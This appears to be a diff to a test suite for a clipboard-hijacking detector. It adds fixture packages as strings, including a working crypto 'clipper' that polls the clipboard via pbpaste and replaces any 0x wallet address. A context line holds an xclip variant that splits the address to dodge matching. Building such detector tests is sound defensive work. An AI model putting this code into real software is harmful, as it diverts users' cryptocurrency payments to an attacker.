@@ -7,6 +7,24 @@ const ELSE = Array.from({ length: 1_000 }, (_, at) => `function f${at}() { retur
 examine(watchesClipboard, {
   speaks: [
     {
+      when: 'one command copies an address for donations, and another shows what was copied',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.mjs' },
+        'README.md': '# A history of what was copied. If you like it, run specimen donate',
+        'cli.mjs': `import clip from 'clipboardy'; if (process.argv[2] === 'donate') { clip.writeSync('bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq'); } else { console.log(clip.readSync()); }`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'an address that is put there again and again stands on the page as well',
+      files: {
+        'package.json': { name: 'specimen', version: '1.0.0', bin: 'cli.js' },
+        'README.md': 'Example: 0x000000000000000000000000000000000000dEaD',
+        'cli.js': `const { execSync, execFileSync } = require('child_process'); setInterval(() => { if (/^0x/.test(String(execSync('pbpaste')))) execFileSync('pbcopy', [], { input: '0x000000000000000000000000000000000000dEaD' }); }, 700);`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'a program that puts texts there is told one address later, by its input',
       files: {
         'index.js': `const cp = require('child_process'); exports.go = () => setInterval(() => { if (/^0x/.test(String(cp.execSync('xclip -o')))) { const to = cp.spawn('xclip'); to.stdin.write('0x000000000000000000000000000000000000'); to.stdin.end('dEaD'); } }, 500);`,
